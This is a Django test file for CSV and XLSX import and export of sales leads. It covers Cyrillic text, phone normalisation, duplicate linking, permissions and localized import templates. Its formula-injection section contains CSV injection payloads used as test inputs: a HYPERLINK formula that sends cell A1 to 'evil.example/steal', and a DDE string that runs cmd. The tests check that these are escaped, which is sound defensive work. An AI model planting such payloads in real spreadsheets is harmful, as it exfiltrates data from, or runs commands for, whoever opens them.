"""CSV and XLSX import and export of leads in the admin (django-import-export): Cyrillic intact,
a preview before anything is written, phones normalized and duplicates linked, not repeated."""

import io

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from apps.accounts import services as account_services
from apps.leads.models import ActivityKind, Lead, LeadSource, LeadStatus, ServiceInterest
from apps.leads.resources import LeadResource
from tests.accounts.factories import UserFactory
from tests.leads.factories import LeadFactory

IMPORT_URL = reverse("admin:leads_lead_import")
PROCESS_URL = reverse("admin:leads_lead_process_import")
EXPORT_URL = reverse("admin:leads_lead_export")
CSV, XLSX = 0, 1  # the admin's format choices, in the order of LeadAdmin.import_formats

CSV_FILE = (
    "name,email,phone,service_interest,notes\n"
    "Айгерим Садыкова,aigerim@example.com,+7 777 123 45 67,kitchen_design,Кухня из дуба\n"
    "Ерлан Жумабаев,,8 701 555 44 33,Детская комната,\n"
    "Дубль по почте,Existing@Example.com,,,Повторное обращение\n"
)


@pytest.fixture
def admin_client(client, admin_user):
    client.force_login(admin_user)
    return client


@pytest.fixture
def existing(db):
    return LeadFactory(name="Уже в базе", email="existing@example.com", phone="", service_interest="")


def upload(client, content: bytes, name: str, file_format: int):
    file = SimpleUploadedFile(name, content)
    return client.post(IMPORT_URL, {"format": file_format, "import_file": file})


def confirm(client, preview):
    form = preview.context["confirm_form"]
    data = {name: form.initial.get(name, field.initial) for name, field in form.fields.items()}
    return client.post(PROCESS_URL, {k: v for k, v in data.items() if v is not None})


def test_import_page_renders(admin_client):
    response = admin_client.get(IMPORT_URL)
    assert response.status_code == 200
    fields = dict(response.context["fields_list"])["LeadResource"]
    assert fields == ["Имя", "Email", "Телефон", "Интересующая услуга", "Заметки"]


def test_csv_import_previews_then_creates_and_links(admin_client, admin_user, existing):
    preview = upload(admin_client, CSV_FILE.encode("utf-8"), "leads.csv", CSV)
    assert preview.status_code == 200
    result = preview.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert [row.import_type for row in result.rows] == ["new", "new", "update"]
    html = preview.content.decode()
    assert "Айгерим Садыкова" in html
    assert Lead.objects.count() == 1  # the preview wrote nothing

    response = confirm(admin_client, preview)
    assert response.status_code == 302
    assert Lead.objects.count() == 3
    aigerim = Lead.objects.get(name="Айгерим Садыкова")
    assert aigerim.phone == "+77771234567"
    assert aigerim.source == LeadSource.IMPORT
    assert aigerim.service_interest == ServiceInterest.KITCHEN_DESIGN
    assert aigerim.activities.filter(kind=ActivityKind.CREATED, author=admin_user).exists()
    erlan = Lead.objects.get(name="Ерлан Жумабаев")
    assert erlan.phone == "+77015554433"
    assert erlan.service_interest == ServiceInterest.CHILDREN_ROOM  # a label is read as its value
    existing.refresh_from_db()
    assert existing.name == "Уже в базе"  # linked, not renamed
    inquiry = existing.activities.get(kind=ActivityKind.INQUIRY)
    assert "Повторное обращение" in inquiry.text


def test_duplicates_inside_one_file_become_one_lead(admin_client):
    content = "name,email,phone\nАнна,anna@example.com,\nАнна Петрова,ANNA@example.com,+7 777 111 22 33\n"
    preview = upload(admin_client, content.encode(), "leads.csv", CSV)
    assert [row.import_type for row in preview.context["result"].rows] == ["new", "update"]
    confirm(admin_client, preview)
    lead = Lead.objects.get()
    assert lead.phone == "+77771112233"  # the second row filled in what the lead lacked


def test_invalid_rows_are_shown_in_the_preview_and_nothing_is_imported(admin_client):
    content = (
        "name,email,phone\nХороший,good@example.com,\nПлохой телефон,,abc\n,nobody@example.com,\nБез контактов,,\n"
    )
    preview = upload(admin_client, content.encode(), "leads.csv", CSV)
    assert preview.status_code == 200
    result = preview.context["result"]
    assert result.has_validation_errors()
    invalid = {row.number: set(row.error_dict) for row in result.invalid_rows}
    assert invalid == {2: {"phone"}, 3: {"name"}, 4: {"email"}}
    assert "confirm_form" not in preview.context
    assert not Lead.objects.exists()


def test_russian_headers_and_a_bom_are_understood(admin_client):
    content = "\ufeffИмя,Телефон,Заметки\nСауле,+996 509 912 569,Из Бишкека\n".encode()
    preview = upload(admin_client, content, "лиды.csv", CSV)
    result = preview.context["result"]
    assert not result.has_validation_errors(), [r.error_dict for r in result.invalid_rows]
    confirm(admin_client, preview)
    lead = Lead.objects.get()
    assert (lead.name, lead.phone, lead.notes) == ("Сауле", "+996509912569", "Из Бишкека")


def test_xlsx_import(admin_client):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["name", "email", "phone", "service_interest"])
    sheet.append(["Тимур Алиев", "timur@example.com", "87771234500", "мебель монтессори"])
    sheet.append(["Академия", "academy@example.com", None, "academy"])
    buffer = io.BytesIO()
    book.save(buffer)
    preview = upload(admin_client, buffer.getvalue(), "leads.xlsx", XLSX)
    assert not preview.context["result"].has_validation_errors(), [
        r.error_dict for r in preview.context["result"].invalid_rows
    ]
    confirm(admin_client, preview)
    assert Lead.objects.get(name="Тимур Алиев").phone == "+77771234500"
    assert Lead.objects.get(name="Академия").service_interest == ServiceInterest.ACADEMY


def test_csv_export_keeps_cyrillic(admin_client, admin_user):
    LeadFactory(name="Жанна Қасымова", email="zhanna@example.com", assigned_to=admin_user, notes="Шкаф-купе")
    response = admin_client.post(EXPORT_URL, {"format": CSV, "resource": 0})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM: Excel then reads UTF-8
    text = body.decode("utf-8-sig")
    header, row = text.splitlines()[:2]
    assert header.split(",") == [
        "id",
        "name",
        "email",
        "phone",
        "status",
        "source",
        "service_interest",
        "assigned_to",
        "notes",
        "created_at",
    ]
    assert "Жанна Қасымова" in row and "Шкаф-купе" in row and admin_user.email in row


def test_xlsx_export(admin_client):
    LeadFactory(name="Әлия")
    response = admin_client.post(EXPORT_URL, {"format": XLSX, "resource": 0})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(row=2, column=2).value == "Әлия"


def test_export_respects_the_list_filters(admin_client):
    LeadFactory(name="Новый")
    LeadFactory(name="Потерянный", status=LeadStatus.LOST)
    response = admin_client.post(f"{EXPORT_URL}?status__exact=lost", {"format": CSV, "resource": 0})
    text = response.content.decode("utf-8-sig")
    assert "Потерянный" in text and "Новый" not in text


def test_export_then_import_links_every_row_back(admin_client):
    lead = LeadFactory(name="Круговой", email="round@example.com")
    dataset = LeadResource().export()
    preview = upload(admin_client, dataset.csv.encode(), "export.csv", CSV)
    assert [row.import_type for row in preview.context["result"].rows] == ["update"]
    confirm(admin_client, preview)
    assert Lead.objects.get() == lead


def test_manager_may_import_and_export(client, manager):
    account_services.user_groups_sync(user=manager)
    client.force_login(manager)
    assert client.get(IMPORT_URL).status_code == 200
    assert client.get(EXPORT_URL).status_code == 200


def test_client_role_cannot_import(client, client_user):
    client.force_login(client_user)
    assert client.get(IMPORT_URL).status_code == 302  # to the admin login: not staff


def test_imported_leads_do_not_email_the_managers_one_by_one(django_capture_on_commit_callbacks, manager, mailoutbox):
    from apps.leads import services
    from apps.leads.models import LeadSource

    with django_capture_on_commit_callbacks(execute=True):
        services.lead_create_or_link(
            name="Импорт Один", email="import1@example.com", source=LeadSource.IMPORT, notify=False
        )
    assert mailoutbox == []
    with django_capture_on_commit_callbacks(execute=True):
        services.lead_create_or_link(name="Сайт Один", email="site1@example.com", source=LeadSource.WEBSITE)
    assert len(mailoutbox) == 1


# --- Formula injection -----------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/steal?c="&A1,"Открыть")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+SUM(1,2)", "'+SUM(1,2)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "'\t=1+1"),
        ("+77771234567", "+77771234567"),  # a phone stays a phone
        ("-5", "-5"),
        ("Анна", "Анна"),
    ],
)
def test_neutralize_formula(value, written):
    from apps.core.spreadsheets import neutralize_formula

    assert neutralize_formula(value) == written


def test_csv_export_escapes_formulas(admin_client):
    LeadFactory(name=EVIL, notes="@SUM(1+1)*cmd", phone="+77771234567")
    response = admin_client.post(EXPORT_URL, {"format": CSV, "resource": 0})
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    row = text.splitlines()[1]
    assert "'=HYPERLINK" in row and "'@SUM(1+1)*cmd" in row
    assert ",=HYPERLINK" not in row and ',"=HYPERLINK' not in row
    assert "+77771234567" in row and "'+77771234567" not in row


def test_xlsx_export_writes_formulas_as_text(admin_client):
    LeadFactory(name=EVIL)
    response = admin_client.post(EXPORT_URL, {"format": XLSX, "resource": 0})
    cell = openpyxl.load_workbook(io.BytesIO(response.content)).active.cell(row=2, column=2)
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert cell.value == "'" + EVIL


def test_import_stores_formulas_as_inert_text(admin_client):
    csv_file = f'name,email,notes\n"{EVIL.replace(chr(34), chr(34) * 2)}",evil@example.com,=1+1\n'
    preview = upload(admin_client, csv_file.encode(), "leads.csv", CSV)
    assert not preview.context["result"].has_validation_errors()
    confirm(admin_client, preview)
    lead = Lead.objects.get(email="evil@example.com")
    assert (lead.name, lead.notes) == ("'" + EVIL, "'=1+1")


# -- the import page in the reader's language, and the file to fill in --

TEMPLATE_XLSX = reverse("admin:leads_lead_import_template", args=["xlsx"])
TEMPLATE_CSV = reverse("admin:leads_lead_import_template", args=["csv"])


@pytest.mark.parametrize(
    ("language", "labels"),
    [
        ("kk", ["Аты", "Электрондық пошта", "Телефон"]),
        ("ky", ["Аты", "Электрондук почта", "Телефон"]),
    ],
)
def test_import_page_names_the_columns_in_the_readers_language(admin_client, language, labels):
    admin_client.cookies["django_language"] = language

    response = admin_client.get(IMPORT_URL)

    fields = dict(response.context["fields_list"])["LeadResource"]
    assert fields[:3] == labels
    page = response.content.decode()
    assert "service_interest" not in page
    assert f'href="{TEMPLATE_XLSX}"' in page and f'href="{TEMPLATE_CSV}"' in page


def test_xlsx_template_has_the_header_row_and_imports_once_filled_in(admin_client):
    response = admin_client.get(TEMPLATE_XLSX)

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="leads-import-template.xlsx"'
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    rows = list(book.active.iter_rows(values_only=True))
    assert rows == [("Имя", "Email", "Телефон", "Интересующая услуга", "Заметки")]

    book.active.append(("Гульнара Ким", "gulnara@example.com", "+7 777 987 65 43", "Детская комната", "На двоих"))
    filled = io.BytesIO()
    book.save(filled)
    preview = upload(admin_client, filled.getvalue(), "leads.xlsx", XLSX)
    assert preview.status_code == 200
    assert "confirm_form" in preview.context
    confirm(admin_client, preview)

    lead = Lead.objects.get(email="gulnara@example.com")
    assert (lead.name, lead.phone, lead.source) == ("Гульнара Ким", "+77779876543", LeadSource.IMPORT)
    assert lead.service_interest == ServiceInterest.CHILDREN_ROOM


def test_csv_template_filled_in_by_a_kazakh_colleague_imports_in_russian(admin_client):
    admin_client.cookies["django_language"] = "kk"
    header = admin_client.get(TEMPLATE_CSV).content.decode("utf-8-sig").strip()
    assert header.startswith("Аты,Электрондық пошта,Телефон,")

    admin_client.cookies["django_language"] = "ru"
    content = f"{header}\nАсель Нурбекова,asel@example.com,,,\n".encode()
    confirm(admin_client, upload(admin_client, content, "leads.csv", CSV))

    assert Lead.objects.filter(email="asel@example.com", name="Асель Нурбекова").exists()


@pytest.mark.parametrize(("role", "status"), [("anonymous", 302), ("user", 302), ("manager", 200), ("admin", 200)])
def test_import_template_permissions(client, db, role, status):
    if role != "anonymous":
        client.force_login(UserFactory(role=role))

    response = client.get(TEMPLATE_XLSX)

    assert response.status_code == status
    if status == 302:
        assert response["Location"].startswith(reverse("admin:login"))


def test_import_template_needs_the_add_permission(client, db):
    staff = UserFactory(role="manager")
    staff.groups.clear()
    staff.user_permissions.set([Permission.objects.get(codename="view_lead")])
    client.force_login(staff)

    assert client.get(TEMPLATE_XLSX).status_code == 403


def test_import_template_of_an_unknown_format_is_not_found(admin_client):
    assert admin_client.get(reverse("admin:leads_lead_import_template", args=["pdf"])).status_code == 404


@pytest.mark.parametrize("language", ["ru", "kk", "ky"])
def test_export_writes_choices_by_their_names_in_the_readers_language(admin_client, language):
    from django.utils import translation

    from apps.leads.models import lead_source_label

    LeadFactory(
        name="Экспорт",
        status=LeadStatus.CONTACTED,
        source=LeadSource.SOCIAL_MEDIA,
        service_interest=ServiceInterest.ACADEMY,
    )
    response = admin_client.post(EXPORT_URL, {"format": CSV, "resource": 0}, HTTP_ACCEPT_LANGUAGE=language)
    row = next(line for line in response.content.decode("utf-8-sig").splitlines() if "Экспорт" in line)
    cells = row.split(",")
    with translation.override(language):
        names = [
            str(LeadStatus.CONTACTED.label),
            lead_source_label(LeadSource.SOCIAL_MEDIA),
            str(ServiceInterest.ACADEMY.label),
        ]
    assert cells[4:7] == names
    assert not {"contacted", "social_media", "academy"} & set(cells)
